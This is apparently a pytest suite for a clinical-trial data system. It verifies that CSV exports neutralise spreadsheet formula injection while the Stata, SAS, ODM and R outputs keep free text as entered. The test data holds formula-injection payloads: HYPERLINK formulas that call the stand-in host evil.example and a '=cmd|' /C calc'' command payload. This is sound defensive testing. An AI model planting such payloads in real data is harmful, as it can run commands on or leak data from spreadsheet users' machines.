"""CSV injection: free text that a spreadsheet would run as a formula (it begins with =, +, -, @,
a tab or a carriage return) is written with a leading apostrophe in every CSV the system writes --
every CSV of both bundles of a hard lock, Table 1, `trial user list --format csv` -- while the
Stata, SAS transport and ODM files keep the text as entered, numbers stay numbers, and the R
loader gives the text back as entered."""
from __future__ import annotations

import csv
import datetime as dt
import io
import re
import shutil
import subprocess
import zipfile

import pytest
from sqlalchemy import select

from tests.helpers import CLI, PASSWORD, backdate_randomization, dictionary_of, loc, randomized_before
from trial.course.service import log_session, set_goals
from trial.exports.formats import FORMULA_START, spreadsheet_safe
from trial.participants.models import Assessment
from trial.queries import service as queries
from trial.safety import service as safety
from trial.status.service import record_deviation, record_event
from trial.timeline import today

SEED = bytes(range(32))
R = today() - dt.timedelta(days=120)
TRIGGERS = ["=", "+", "-", "@"]


def formula(key: str, n: int) -> str:
    """A distinct formula per field (the triggers taken in turn), short enough for SAS transport."""
    return f'{TRIGGERS[n % len(TRIGGERS)]}HYPERLINK("http://evil.example/?{key}","click") {key}'


# (table, variable) -> the formula entered in that free-text field
FIELDS = ["screen.othrsn", "queries.text", "querymsg.text", "ae.term", "ae.descr", "aefu.text", "aerep.repref",
          "sessnote.note", "goals.descr", "events.reason", "deviatn.descr"]
TEXT = {f: formula(f.replace(".", "_"), i) for i, f in enumerate(FIELDS)}
# what a blinded bundle leaves out or withholds (sessions, goals, deviations, adverse events; the
# reasons unblinded staff write)
UNBLINDED_ONLY = {"ae.term", "ae.descr", "aefu.text", "aerep.repref", "sessnote.note", "goals.descr", "events.reason",
                  "deviatn.descr"}


def iso(d: dt.date) -> str:
    return d.isoformat()


def _music_child(world, db):
    """A child randomized to a music-therapy arm (and the usual-care ones met on the way)."""
    while True:
        p, arm = randomized_before(world, db, R)
        if arm != "usual":
            return p


@pytest.fixture()
def formulas(world, db):
    """A trial whose every free-text field begins with a formula, hard-locked: both bundles."""
    world.open(SEED)
    p = _music_child(world, db)
    backdate_randomization(db, dt.datetime.combine(R, dt.time(10, 0)))
    world.screen(screened_on=iso(R - dt.timedelta(days=40)), other_reason=TEXT["screen.othrsn"])
    log_session(db, CLI, p.study_id, {"held_on": iso(R + dt.timedelta(days=3)), "attendance": "attended", "minutes": 30,
                                      "techniques": ["songs"], "engagement": 3, "note": TEXT["sessnote.note"]})
    set_goals(db, CLI, p.study_id, {"goals": [{"goal": "eye_contact", "description": TEXT["goals.descr"]}]})
    ae = safety.record(db, CLI, p.study_id, {
        "term": TEXT["ae.term"], "description": TEXT["ae.descr"], "onset": iso(R + dt.timedelta(days=4)),
        "severity": "mild", "serious": True, "seriousness": ["other_important"], "relatedness": "possible",
        "outcome": "recovering"})
    safety.acknowledge(db, CLI, ae.id, {"reported_to": "ethics_committee", "reference": TEXT["aerep.repref"],
                                        "reported_at": f"{iso(R + dt.timedelta(days=4))}T12:00:00Z"})
    safety.follow_up(db, CLI, ae.id, {"on": iso(R + dt.timedelta(days=9)), "outcome": "recovered",
                                      "resolved_on": iso(R + dt.timedelta(days=8)), "text": TEXT["aefu.text"]})
    record_event(db, CLI, p.study_id, {"type": "discontinued_intervention", "on": iso(R + dt.timedelta(days=30)),
                                       "reason": TEXT["events.reason"]})
    record_deviation(db, CLI, p.study_id, {"on": iso(R + dt.timedelta(days=31)), "category": "other",
                                           "description": TEXT["deviatn.descr"]})
    baseline = db.execute(select(Assessment.id).where(Assessment.participant_id == p.id)).scalar_one()
    q = queries.raise_query(db, world.users["manager"], {"study_id": p.study_id, "text": TEXT["queries.text"],
                                                         "on": {"kind": "assessment", "id": baseline, "field": "rrb"}})
    queries.respond(db, world.users["assessor"], q.id, {"text": TEXT["querymsg.text"]})
    db.commit()
    r = world.api("POST", "/locks", "manager", json={"kind": "hard", "meaning": "Final.", "password": PASSWORD,
                                                     "accept_open_queries": True})
    assert r.status_code == 201, r.get_json()
    lock = r.get_json()["id"]
    out = {}
    for variant, who in (("unblinded", "manager"), ("blinded", "statistician")):
        r = world.api("GET", f"/locks/{lock}/bundle.zip", who)
        assert r.status_code == 200, (who, r.status_code)
        with zipfile.ZipFile(io.BytesIO(r.data)) as z:
            out[variant] = {n.split("/", 1)[1]: z.read(n) for n in z.namelist()}
    return out


NUMBER = re.compile(r"^-?\d+(\.\d+)?(e-?\d+)?$")


def _cells(content: bytes):
    rows = list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))
    return rows[0], rows[1:]


def test_a_formula_in_every_free_text_field_is_neutralised_in_every_csv_of_both_bundles(formulas):
    for variant, files in formulas.items():
        entries = dictionary_of(files)
        seen = set()
        for name, content in files.items():
            if not name.endswith(".csv"):
                continue
            head, rows = _cells(content)
            table = name.rsplit("/", 1)[-1][:-4]
            for row in rows:
                for var, cell in zip(head, row):
                    in_table = name.startswith(("csv/", "analysis/"))
                    typed = entries.get((table, var), {}).get("type") if in_table else None
                    if cell[:1] in FORMULA_START:  # only a number may begin so (a negative one)
                        assert typed in ("integer", "number", None) and NUMBER.match(cell), (variant, name, var, cell)
                    if cell.startswith("'"):  # one of the formulas (a query's text is in its thread too)
                        assert cell[1:] in TEXT.values(), (variant, name, var, cell)
                        seen.add(f"{table}.{var}")
        expected = set(FIELDS) - (UNBLINDED_ONLY if variant == "blinded" else set())
        for field in expected:
            table, var = field.split(".")
            head, rows = _cells(files[loc(table, "csv")])
            assert spreadsheet_safe(TEXT[field]) in [r[head.index(var)] for r in rows], (variant, field)
        assert seen == expected, (variant, seen ^ expected)


def test_the_stata_and_sas_files_keep_the_formula_as_entered(formulas, tmp_path):
    import pyreadstat
    for variant, files in formulas.items():
        tables = {f.split(".")[0] for f in FIELDS if f not in UNBLINDED_ONLY or variant == "unblinded"}
        for t in sorted(tables):
            for fmt, reader in (("xpt", pyreadstat.read_xport), ("dta", pyreadstat.read_dta)):
                path = tmp_path / f"{variant}-{t}.{fmt}"
                path.write_bytes(files[loc(t, fmt)])
                df, _ = reader(str(path))
                df.columns = [c.lower() for c in df.columns]
                for field in FIELDS:
                    table, var = field.split(".")
                    if table == t and (field not in UNBLINDED_ONLY or variant == "unblinded"):
                        assert TEXT[field] in list(df[var]), (variant, field, fmt, list(df[var]))
        odm = files["odm/snapshot.xml"].decode()
        assert "'=" not in odm and "'+" not in odm and "'-HYPER" not in odm and "'@" not in odm


def test_the_readme_says_which_cells_carry_an_apostrophe(formulas):
    for files in formulas.values():
        readme = " ".join(files["README.txt"].decode().split())
        assert "have an apostrophe (') put before them in the CSV files" in readme
        assert "the Stata, SAS and ODM files hold the text as entered" in readme


@pytest.mark.skipif(shutil.which("Rscript") is None, reason="R is not installed")
def test_the_r_loader_gives_the_text_back_as_entered(formulas, tmp_path):
    files = formulas["unblinded"]
    for name, content in files.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_bytes(content)
    script = ('source("syntax/load.R"); b <- bundle; '
              'cat(b$ae$term, b$ae$descr, b$sessnote$note, b$screen$othrsn[!is.na(b$screen$othrsn)], sep = "\\n")')
    r = subprocess.run(["Rscript", "-e", script], cwd=tmp_path, capture_output=True, text=True, timeout=120,
                       check=False)
    assert r.returncode == 0, r.stderr
    assert r.stdout.splitlines() == [TEXT["ae.term"], TEXT["ae.descr"], TEXT["sessnote.note"], TEXT["screen.othrsn"]]


def test_spreadsheet_safe_is_undone_by_taking_one_apostrophe_off():
    undo = re.compile(r"^'(?='*[-=+@\t\r])")
    for text in ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "'=x", "''=x", "'x", "'", "", "a=b", "—"]:
        safe = spreadsheet_safe(text)
        assert safe[:1] not in FORMULA_START and undo.sub("", safe) == text, text
    assert spreadsheet_safe(-3) == -3 and spreadsheet_safe(-2.5) == -2.5 and spreadsheet_safe(None) is None


def test_table_1_as_csv_is_neutralised(world, db):
    """The baseline table's row labels come from the protocol's words: a label that begins with a
    formula character is neutralised in the CSV download too."""
    from trial.exports.reports import table_csv
    body = table_csv({"columns": ["", "usual"], "rows": [["=cmd|' /C calc'!A0", "-1.5 (0.3)"], ["n", 3], ["d", -2]]})
    assert body.decode().splitlines() == [",usual", "'=cmd|' /C calc'!A0,'-1.5 (0.3)", "n,3", "d,-2"]


def test_the_operators_list_of_accounts_as_csv_is_neutralised(world, db, monkeypatch):
    import contextlib

    from click.testing import CliRunner

    from trial.auth import service as users
    from trial.cli import main
    from trial.cli import user as user_cli
    users.create_user(db, CLI, "formula@example.org", '=HYPERLINK("http://evil.example","x")', PASSWORD,
                      [("coordinator", "AT01")])
    db.commit()
    monkeypatch.setattr(user_cli, "session", contextlib.contextmanager(lambda: (yield db)))  # the test's database
    r = CliRunner().invoke(main, ["user", "list", "--format", "csv"])
    assert r.exit_code == 0, r.output
    rows = {row[0]: row for row in csv.reader(io.StringIO(r.output))}
    assert rows["formula@example.org"][1] == '\'=HYPERLINK("http://evil.example","x")'
    assert rows["coordinator@example.org"][1] == "Coordinator"
